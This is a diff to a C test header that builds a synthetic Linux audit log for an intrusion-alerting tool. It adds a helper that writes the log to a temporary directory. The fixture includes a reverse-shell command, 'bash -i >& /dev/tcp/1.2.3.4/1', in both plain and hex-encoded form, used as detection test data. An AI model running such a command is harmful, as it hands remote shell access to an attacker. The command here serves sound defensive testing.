@@ -9,6 +9,10 @@
 #ifndef TESTS_TOOLS_ALERT_LOG_H
 #define TESTS_TOOLS_ALERT_LOG_H
 
+#include <criterion/criterion.h>
+#include <stdio.h>
+#include <stdlib.h>
+
 /* A benign exec learned, the same one monitored, then a reverse shell from an unknown binary. */
 #define EXEC(T, S, EXE, COMM, ARGS, TITLE)                                                       \
 	"type=SYSCALL msg=audit(" T ":" S "): arch=c000003e syscall=59 success=yes exit=0 a0=1 "    \
@@ -23,5 +27,19 @@ static const char log_text[] __attribute__((unused)) =
 	EXEC("1767225640.000", "3", "/tmp/.x/m1", "sh",
 	     "argc=3 a0=\"sh\" a1=\"-c\" a2=\"bash -i >& /dev/tcp/1.2.3.4/1 0>&1\"",
 	     "7368002D630062617368202D69203E26202F6465762F7463702F312E322E332E342F3120303E2631");
+
+/* A fresh folder (template like "/tmp/x-XXXXXX", rewritten) holding log_text as audit.log. */
+static inline void alert_log_dir(char *dir)
+{
+	char p[128];
+	FILE *f;
+
+	cr_assert_not_null(mkdtemp(dir));
+	snprintf(p, sizeof(p), "%s/audit.log", dir);
+	f = fopen(p, "w");
+	cr_assert_not_null(f);
+	cr_assert_geq(fputs(log_text, f), 0);
+	cr_assert_eq(fclose(f), 0);
+}
 
 #endif
